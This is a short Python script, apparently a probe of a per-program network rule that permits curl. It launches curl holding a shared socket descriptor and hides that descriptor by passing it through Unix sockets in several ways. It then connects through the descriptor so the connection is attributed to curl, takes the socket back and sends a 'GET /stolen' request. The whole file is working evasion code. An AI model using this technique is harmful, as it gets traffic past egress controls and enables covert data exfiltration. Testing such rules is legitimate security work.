"""Inside: a connection whose descriptor travels through a Unix socket while curl, which a rule names, holds the same one.

argv: how the descriptor is put aside (stream, datagram, backlog, nested, kept), the host, the port. Prints what came back."""
import array
import ctypes
import os
import socket
import struct
import subprocess
import sys
import time


def send_fds(through, fds, words=b'x'):
    through.sendmsg([words], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', fds))])


def take_fd(through):
    _, rights, _, _ = through.recvmsg(1, socket.CMSG_SPACE(4))
    return socket.socket(fileno=array.array('i', rights[0][2][:4])[0])


def put_aside(way, flow):
    """Returns how it comes back."""
    if way == 'stream':
        there, here = socket.socketpair()
        send_fds(there, [flow.fileno()])
        return lambda: take_fd(here), (there, here)
    if way == 'datagram':  # without a byte, so that no length of a queue tells it
        there, here = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        send_fds(there, [flow.fileno()], b'')
        return lambda: take_fd(here), (there, here)
    if way == 'backlog':  # in a connection that nobody accepted
        listener = socket.socket(socket.AF_UNIX)
        listener.bind('\0transit')
        listener.listen(1)
        there = socket.socket(socket.AF_UNIX)
        there.connect('\0transit')
        send_fds(there, [flow.fileno()])
        there.close()
        return lambda: take_fd(listener.accept()[0]), (listener,)
    if way == 'nested':  # the socket that holds it travels itself
        inner_there, inner_here = socket.socketpair()
        send_fds(inner_there, [flow.fileno()])
        there, here = socket.socketpair()
        send_fds(there, [inner_here.fileno()])
        inner_here.close()
        return lambda: take_fd(take_fd(here)), (there, here, inner_there)
    return None, ()


way, host, port = sys.argv[1:4]
address = socket.getaddrinfo(host, int(port), socket.AF_INET, socket.SOCK_STREAM)[0][4]
flow = socket.socket()
flow.setblocking(False)
# A program with the right name holds the descriptor, and never uses it: it waits for its input.
honest = subprocess.Popen(['/usr/bin/curl', '-s', '-K', '-'], stdin=subprocess.PIPE, pass_fds=[flow.fileno()])
while os.readlink('/proc/%d/exe' % honest.pid) != '/usr/bin/curl':
    time.sleep(0.01)
back, kept = put_aside(way, flow)
number = flow.fileno()
if back:
    # connect(2) through the number that curl holds too: the SYN leaves with the descriptor aside
    os.dup2(number, 100)
    carrier = socket.socket(fileno=100)
    flow.close()
    libc = ctypes.CDLL(None)
    there = struct.pack('=H', socket.AF_INET) + struct.pack('!H', address[1]) + socket.inet_aton(address[0]) + bytes(8)
    libc.connect(100, there, len(there))
    carrier.close()
else:
    flow.connect_ex(address)
    flow.close()
time.sleep(1)
if not back:
    print('alone')
    sys.exit()
flow = back()
flow.settimeout(5)
try:
    flow.sendall(b'GET /stolen HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % host.encode())
    said = b''
    while part := flow.recv(4096):
        said += part
    print(said.decode(errors='replace')[:200])
except OSError as error:
    print(type(error).__name__)
honest.kill()
